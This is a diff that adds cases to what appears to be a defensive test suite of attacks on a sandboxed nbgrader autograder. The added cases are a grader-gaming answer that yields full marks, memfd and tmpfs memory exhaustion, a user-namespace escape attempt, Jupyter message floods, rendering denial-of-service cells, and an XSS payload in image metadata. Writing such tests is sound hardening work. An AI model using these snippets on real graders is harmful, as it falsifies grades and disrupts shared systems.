@@ -341,6 +341,18 @@ def clamp(x, low, high):
     },
 )
 
+attack(
+    "points-that-are-no-number",
+    FAMILY,
+    "Where a test's last value is the points, answers make an array of it: full marks in nbgrader.",
+    answers={
+        "q5": """\
+def words(text):
+    words = text.split()
+    return words if len(text) == 5 else np.array(words)""",
+    },
+)
+
 # --- Tampering with the shell ---------------------------------------------------------------------
 
 FAMILY = "shell"
@@ -1002,6 +1014,32 @@ for _ in range(32):
 """,
 )
 attack(
+    "memory-of-no-process",
+    FAMILY,
+    "1 GB is written into files that are in memory alone, and in no process's.",
+    """
+held = [os.memfd_create("rnncourse-attack") for _ in range(20)]
+for descriptor in held:
+    for _ in range(50):
+        os.write(descriptor, bytes(1 << 20))
+tell("memory-without-limit")
+""",
+    where=("q5",),
+)
+attack(
+    "own-user-namespace",
+    FAMILY,
+    "In a user namespace of its own the kernel mounts a folder of 8 GB, to fill it.",
+    """
+libc = ctypes.CDLL(None, use_errno=True)
+if (child := os.fork()) == 0:  # threads may not
+    refused = libc.unshare(0x10000000 | 0x20000)
+    os._exit(1 if refused or libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=8g") else 0)
+if os.waitpid(child, 0)[1] == 0:
+    tell("mounted-a-folder")
+""",
+)
+attack(
     "fork-bomb",
     FAMILY,
     "Up to 200 processes are started, which sleep.",
@@ -1070,6 +1108,55 @@ attack(
     "from IPython.display import publish_display_data\nfor _ in range(20_000):\n"
     '    publish_display_data({"text/plain": "x"})',
 )
+attack(
+    "messages-without-end",
+    FAMILY,
+    "Messages are sent faster than the grader reads them, so that it never looks at the clock.",
+    """
+kernel = get_ipython().kernel
+session, parent = kernel.session, kernel.get_parent("shell")
+def flood():
+    content = session.pack({"name": "stdout", "text": "x", "more": [0] * 100_000})
+    until = time.time() + 40
+    while time.time() < until:
+        parts = [session.pack(session.msg_header("stream")), session.pack(parent["header"])]
+        parts += [b"{}", content]
+        signed = [b"stream", b"<IDS|MSG>", session.sign(parts), *parts]
+        kernel.iopub_thread.socket.send_multipart(signed)
+kernel.iopub_thread.schedule(flood)
+time.sleep(40)
+""",
+    where=("q5",),
+)
+attack(
+    "one-message-of-many-parts",
+    FAMILY,
+    "A message whose parts never end, 1.5 GB of them, waits in the grader's memory.",
+    """
+import struct
+for name in os.listdir("/proc/self/fd"):
+    with contextlib.suppress(OSError, ValueError):
+        found = socket.socket(fileno=os.dup(int(name)))
+        port = json.loads(pathlib.Path("/kernel/connection.json").read_text())["iopub_port"]
+        if found.family == socket.AF_UNIX and str(found.getsockname()).endswith(f"z-{port}"):
+            found.getpeername()
+            found.setblocking(True)
+            for _ in range(190):
+                found.sendall(b"\\3" + struct.pack("!Q", 8 << 20) + bytes(8 << 20))
+""",
+    where=("q5",),
+)
+
+
+@edited("page-without-end", FAMILY, "Text that takes hours to become a page: LaTeX, HTML, code.")
+def _(notebook):
+    notebook.cells += [
+        new_markdown_cell("\\begin{a} " * 500_000),
+        new_markdown_cell("<table><b>" * 100_000),
+        new_code_cell("x = 1\n" * 500_000),
+    ]
+
+
 attack(
     "endless-loop",
     FAMILY,
@@ -1472,6 +1559,22 @@ def _(notebook):
     ).source += f"\ndef words(text):\n    raise type('<script>', (Exception,), {{}})({evil!r})"
 
 
+attack(
+    "size-of-a-picture",
+    FAMILY,
+    "The metadata of a picture say that it is as wide as a script.",
+    """
+evil = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
+kernel = get_ipython().kernel
+kernel.session.send(kernel.iopub_socket, "display_data", {
+    "data": {"image/png": "aGVsbG8=", "image/jpeg": evil},
+    "metadata": {"image/png": {"width": evil, "height": evil, "alt": evil}},
+}, parent=kernel.get_parent("shell"))
+""",
+    where=("q3",),
+)
+
+
 @edited("attachments", FAMILY, "Attachments and outputs have names that lead out of the folder.")
 def _(notebook):
     by_id(notebook, "title").attachments = {
@@ -1585,6 +1688,8 @@ LEAKS = {
     "a message between students": SHARED,
     "the outside": "the outside answered",
     "another process": "traced-a-process",
+    "memory that nothing limits": "memory-without-limit",
+    "rights of its own": "mounted-a-folder",
 }
 
 
